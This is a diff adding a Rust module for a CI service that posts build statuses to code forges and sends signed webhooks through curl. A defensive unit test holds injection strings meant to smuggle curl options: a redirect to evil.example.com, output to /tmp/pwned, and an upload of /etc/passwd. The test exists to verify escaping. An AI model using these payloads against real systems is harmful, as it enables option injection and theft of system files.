@@ -0,0 +1,456 @@
+use std::future::Future;
+use std::process::Stdio;
+use std::sync::Arc;
+use std::time::Duration;
+
+use anyhow::{bail, Result};
+use common::{Build, BuildStatus, InputOutputs};
+use hmac::{Hmac, Mac};
+use log::{info, warn};
+use serde::Deserialize;
+use serde_json::json;
+use sha2::Sha256;
+use sqlx::postgres::PgListener;
+use sqlx::types::Json;
+use sqlx::PgPool;
+use tokio::io::AsyncWriteExt;
+use tokio::process::Command;
+
+use crate::cfg::{Config, Forge, ForgeKind};
+
+// how long to wait for anything new before checking for retries that are due
+const RETRY_CHECK: Duration = Duration::from_secs(15);
+
+// what statuses show up as on the forge
+const CONTEXT: &str = "starfish";
+
+// what the database puts in a webhook delivery when the event happens
+#[derive(Debug, Deserialize)]
+struct Snapshot {
+  build: Build,
+  inputs: Vec<InputOutputs>,
+}
+
+// sends commit statuses to the forges as builds go through them. every worker
+// with forges set up runs this, they take turns on the reports.
+pub async fn report_statuses(db: PgPool, cfg: Arc<Config>) {
+  loop {
+    if let Err(e) = work_through(&db, "status_report_queued", || report_next(&db, &cfg)).await {
+      warn!("unable to report statuses: {:?}", e);
+      tokio::time::sleep(RETRY_CHECK).await;
+    }
+  }
+}
+
+// same thing for the webhooks set up through the api
+pub async fn deliver_webhooks(db: PgPool, cfg: Arc<Config>) {
+  loop {
+    if let Err(e) = work_through(&db, "webhook_delivery_queued", || deliver_next(&db, &cfg)).await {
+      warn!("unable to deliver webhooks: {:?}", e);
+      tokio::time::sleep(RETRY_CHECK).await;
+    }
+  }
+}
+
+// calls `next` until there's nothing left that's due, then waits to hear on
+// `channel` that there's more
+async fn work_through<F, Fut>(db: &PgPool, channel: &str, mut next: F) -> Result<()>
+where
+  F: FnMut() -> Fut,
+  Fut: Future<Output = Result<bool>>,
+{
+  let mut listener = PgListener::connect_with(db).await?;
+  listener.listen(channel).await?;
+
+  loop {
+    while next().await? {}
+    if let Ok(notif) = tokio::time::timeout(RETRY_CHECK, listener.recv()).await {
+      notif?;
+    }
+  }
+}
+
+// tries the next report that's due, if there is one. only the latest status of
+// a build is reported, and only once its rev is a commit.
+async fn report_next(db: &PgPool, cfg: &Config) -> Result<bool> {
+  let origins = cfg
+    .forges
+    .iter()
+    .flat_map(|f| f.origins.iter().cloned())
+    .collect::<Vec<_>>();
+
+  let mut tx = db.begin().await?;
+  let Some(report) = sqlx::query!(
+    "SELECT r.id, r.status as \"status: BuildStatus\", r.attempts, b.id as build_id, b.origin, \
+     b.rev FROM status_reports r JOIN builds b ON b.id = r.build_id WHERE r.delivered_at IS NULL \
+     AND r.attempts < $1 AND r.next_attempt_at <= now() AND b.rev ~ '^[0-9a-f]{40}$' AND EXISTS \
+     (SELECT 1 FROM unnest($2::text[]) o WHERE starts_with(b.origin, o)) AND NOT EXISTS (SELECT \
+     1 FROM status_reports n WHERE n.build_id = r.build_id AND n.id > r.id) ORDER BY r.id LIMIT 1 \
+     FOR UPDATE OF r SKIP LOCKED",
+    cfg.max_report_attempts,
+    &origins
+  )
+  .fetch_optional(&mut *tx)
+  .await?
+  else {
+    return Ok(false)
+  };
+
+  let forge = cfg.forges.iter().find_map(|f| {
+    f.origins
+      .iter()
+      .find_map(|o| report.origin.strip_prefix(o.as_str()))
+      .map(|repo| (f, repo.trim_end_matches('/').trim_end_matches(".git")))
+  });
+  let link = cfg
+    .public_url
+    .as_ref()
+    .map(|u| format!("{}/build/{}", u.trim_end_matches('/'), report.build_id));
+
+  let result = match forge {
+    Some((forge, repo)) => {
+      send_status(
+        forge,
+        repo,
+        &report.rev,
+        report.build_id,
+        report.status,
+        link,
+      )
+      .await
+    }
+    None => Err(anyhow::anyhow!("no forge is set up for {}", report.origin)),
+  };
+  let (code, error) = match result {
+    Ok((code, _)) if (200..300).contains(&code) => (Some(code), None),
+    Ok((code, body)) => (Some(code), Some(body)),
+    Err(e) => (None, Some(format!("{e:#}"))),
+  };
+
+  sqlx::query!(
+    "INSERT INTO status_report_attempts (report_id, response_code, error) VALUES ($1, $2, $3)",
+    report.id,
+    code.map(i32::from),
+    error.as_deref()
+  )
+  .execute(&mut *tx)
+  .await?;
+  // waits twice as long after every failure
+  sqlx::query!(
+    "UPDATE status_reports SET attempts = attempts + 1, delivered_at = CASE WHEN $2 THEN now() \
+     END, next_attempt_at = now() + interval '30 seconds' * power(2, attempts) WHERE id = $1",
+    report.id,
+    error.is_none()
+  )
+  .execute(&mut *tx)
+  .await?;
+  tx.commit().await?;
+
+  match error {
+    None => info!(
+      "reported build {} as {:?} to {}",
+      report.build_id, report.status, report.origin
+    ),
+    Some(e) => warn!(
+      "unable to report build {} as {:?} (attempt {}): {}",
+      report.build_id,
+      report.status,
+      report.attempts + 1,
+      e
+    ),
+  }
+
+  Ok(true)
+}
+
+async fn send_status(
+  forge: &Forge,
+  repo: &str,
+  rev: &str,
+  build_id: i32,
+  status: BuildStatus,
+  link: Option<String>,
+) -> Result<(u16, String)> {
+  let api_base = forge.api_base.trim_end_matches('/');
+  let description = format!("build #{build_id} {status:?}").to_lowercase();
+
+  let (url, auth, mut body) = match forge.kind {
+    ForgeKind::Github | ForgeKind::Gitea => {
+      let state = match status {
+        BuildStatus::Queued | BuildStatus::Building | BuildStatus::Uploading => "pending",
+        BuildStatus::Succeeded => "success",
+        BuildStatus::Failed => "failure",
+        BuildStatus::Canceled => "error",
+      };
+      let scheme = if forge.kind == ForgeKind::Github {
+        "Bearer"
+      } else {
+        "token"
+      };
+      (
+        format!("{api_base}/repos/{repo}/statuses/{rev}"),
+        format!("Authorization: {scheme} {}", forge.token),
+        json!({ "state": state, "description": description, "context": CONTEXT }),
+      )
+    }
+    ForgeKind::Gitlab => {
+      let state = match status {
+        BuildStatus::Queued => "pending",
+        BuildStatus::Building | BuildStatus::Uploading => "running",
+        BuildStatus::Succeeded => "success",
+        BuildStatus::Failed => "failed",
+        BuildStatus::Canceled => "canceled",
+      };
+      (
+        format!(
+          "{api_base}/projects/{}/statuses/{rev}",
+          repo.replace('/', "%2F")
+        ),
+        format!("PRIVATE-TOKEN: {}", forge.token),
+        json!({ "state": state, "description": description, "name": CONTEXT }),
+      )
+    }
+  };
+  if let Some(link) = link {
+    body["target_url"] = link.into();
+  }
+
+  post_json(&url, &[auth], &body.to_string()).await
+}
+
+// sends the next webhook delivery that's due, oldest first
+async fn deliver_next(db: &PgPool, cfg: &Config) -> Result<bool> {
+  let mut tx = db.begin().await?;
+  let Some(delivery) = sqlx::query!(
+    "SELECT d.id, d.build_id, d.event, d.payload as \"payload: Json<serde_json::Value>\", \
+     d.snapshot as \"snapshot: Json<Snapshot>\", d.attempts, w.url, w.secret FROM \
+     webhook_deliveries d JOIN webhooks w ON w.id = d.webhook_id WHERE d.delivered_at IS NULL AND \
+     d.attempts < $1 AND d.next_attempt_at <= now() ORDER BY d.id LIMIT 1 FOR UPDATE OF d SKIP \
+     LOCKED",
+    cfg.max_report_attempts
+  )
+  .fetch_optional(&mut *tx)
+  .await?
+  else {
+    return Ok(false)
+  };
+
+  // the build as it was when the event happened. deliveries queued before
+  // those were kept get the build as it is now
+  let payload = match delivery.payload {
+    Some(Json(payload)) => payload,
+    None => {
+      let Json(Snapshot { build, inputs }) = match delivery.snapshot {
+        Some(snapshot) => snapshot,
+        None => {
+          let Some(build) = Build::get(delivery.build_id, &mut *tx).await? else {
+            bail!("build {} is gone", delivery.build_id)
+          };
+          let inputs = build.get_inputs_and_outputs(db).await?;
+          Json(Snapshot { build, inputs })
+        }
+      };
+      let payload = json!({ "event": delivery.event, "build": build, "inputs": inputs });
+      sqlx::query!(
+        "UPDATE webhook_deliveries SET payload = $2 WHERE id = $1",
+        delivery.id,
+        Json(&payload) as _
+      )
+      .execute(&mut *tx)
+      .await?;
+      payload
+    }
+  };
+  let body = payload.to_string();
+
+  let mut headers = vec![
+    format!("X-Starfish-Event: {}", delivery.event),
+    format!("X-Starfish-Delivery: {}", delivery.id),
+  ];
+  if let Some(secret) = &delivery.secret {
+    let mut mac =
+      Hmac::<Sha256>::new_from_slice(secret.as_bytes()).expect("hmac takes keys of any size");
+    mac.update(body.as_bytes());
+    let signature = base16ct::lower::encode_string(&mac.finalize().into_bytes());
+    headers.push(format!("X-Starfish-Signature: sha256={signature}"));
+  }
+
+  let (code, error) = match post_json(&delivery.url, &headers, &body).await {
+    Ok((code, _)) if (200..300).contains(&code) => (Some(code), None),
+    Ok((code, body)) => (Some(code), Some(body)),
+    Err(e) => (None, Some(format!("{e:#}"))),
+  };
+
+  sqlx::query!(
+    "INSERT INTO webhook_delivery_attempts (delivery_id, response_code, error) VALUES ($1, $2, $3)",
+    delivery.id,
+    code.map(i32::from),
+    error.as_deref()
+  )
+  .execute(&mut *tx)
+  .await?;
+  sqlx::query!(
+    "UPDATE webhook_deliveries SET attempts = attempts + 1, delivered_at = CASE WHEN $2 THEN \
+     now() END, next_attempt_at = now() + interval '30 seconds' * power(2, attempts) WHERE id = $1",
+    delivery.id,
+    error.is_none()
+  )
+  .execute(&mut *tx)
+  .await?;
+  tx.commit().await?;
+
+  if let Some(e) = error {
+    warn!(
+      "unable to deliver {} of build {} to {} (attempt {}): {}",
+      delivery.event,
+      delivery.build_id,
+      delivery.url,
+      delivery.attempts + 1,
+      e
+    );
+  }
+
+  Ok(true)
+}
+
+// a quoted value in curl's config, where a bare newline would end the option
+fn curl_quote(s: &str) -> String {
+  format!(
+    "\"{}\"",
+    s.replace('\\', "\\\\")
+      .replace('"', "\\\"")
+      .replace('\n', "\\n")
+      .replace('\r', "\\r")
+  )
+}
+
+fn curl_config(url: &str, headers: &[String], body: &str) -> String {
+  let mut config = format!(
+    "url = {}\nrequest = \"POST\"\nheader = \"Content-Type: application/json\"\n",
+    curl_quote(url)
+  );
+  for header in headers {
+    config += &format!("header = {}\n", curl_quote(header));
+  }
+  config += &format!("data-binary = {}\n", curl_quote(body));
+  config
+}
+
+// posts with curl and returns the response code and body. everything goes
+// through stdin so tokens don't show up in the process list.
+pub(crate) async fn post_json(url: &str, headers: &[String], body: &str) -> Result<(u16, String)> {
+  let config = curl_config(url, headers, body);
+
+  let mut child = Command::new("curl")
+    .args([
+      "--silent",
+      "--show-error",
+      "--max-time",
+      "30",
+      "--config",
+      "-",
+      "--write-out",
+      "\\n%{http_code}",
+    ])
+    .stdin(Stdio::piped())
+    .stdout(Stdio::piped())
+    .stderr(Stdio::piped())
+    .kill_on_drop(true)
+    .spawn()?;
+  let mut stdin = child.stdin.take().unwrap();
+  stdin.write_all(config.as_bytes()).await?;
+  drop(stdin);
+
+  let output = child.wait_with_output().await?;
+  if !output.status.success() {
+    bail!(
+      "curl failed: {}",
+      String::from_utf8_lossy(&output.stderr).trim_end()
+    );
+  }
+  let stdout = String::from_utf8_lossy(&output.stdout);
+  let Some((response, code)) = stdout.rsplit_once('\n') else {
+    bail!("curl didn't print the response code");
+  };
+  Ok((code.trim().parse()?, response.to_string()))
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+
+  // reads a value back the way curl does: everything up to the closing quote,
+  // which has to end the line
+  fn unquote(value: &str) -> String {
+    let mut chars = value.strip_prefix('"').expect("values are quoted").chars();
+    let mut out = String::new();
+    while let Some(c) = chars.next() {
+      match c {
+        '"' => {
+          assert_eq!(chars.as_str(), "", "{value:?} goes on after the quote");
+          return out;
+        }
+        '\\' => out.push(match chars.next().expect("escapes are complete") {
+          'n' => '\n',
+          'r' => '\r',
+          c => c,
+        }),
+        c => out.push(c),
+      }
+    }
+    panic!("{value:?} isn't closed");
+  }
+
+  #[test]
+  fn quoting() {
+    for s in [
+      "",
+      "plain",
+      r#"say "hi""#,
+      r"C:\path\",
+      "a\nb",
+      "a\r\nb",
+      "\\\"\n\r",
+    ] {
+      let quoted = curl_quote(s);
+      assert!(!quoted.contains(['\n', '\r']), "{quoted:?}");
+      assert_eq!(unquote(&quoted), s);
+    }
+  }
+
+  #[test]
+  fn values_cant_start_new_options() {
+    let url = "https://example.com/hook\"\nurl = \"https://evil.example.com/";
+    let headers = vec![
+      "X-Starfish-Event: queued\r\nheader = \"X-Injected: 1".to_string(),
+      "X-Other: \\\"\noutput = \"/tmp/pwned".to_string(),
+    ];
+    let body = "{\"a\": \"b\\\"\n\"}\ndata-binary = \"@/etc/passwd\"";
+
+    let config = curl_config(url, &headers, body);
+    let lines = config.lines().collect::<Vec<_>>();
+    let options = lines
+      .iter()
+      .map(|l| l.split_once(" = ").expect("every line is an option").0)
+      .collect::<Vec<_>>();
+    assert_eq!(
+      options,
+      [
+        "url",
+        "request",
+        "header",
+        "header",
+        "header",
+        "data-binary"
+      ]
+    );
+
+    let values = lines
+      .iter()
+      .map(|l| unquote(l.split_once(" = ").unwrap().1))
+      .collect::<Vec<_>>();
+    assert_eq!(values[0], url);
+    assert_eq!(values[3..5], headers[..]);
+    assert_eq!(values[5], body);
+  }
+}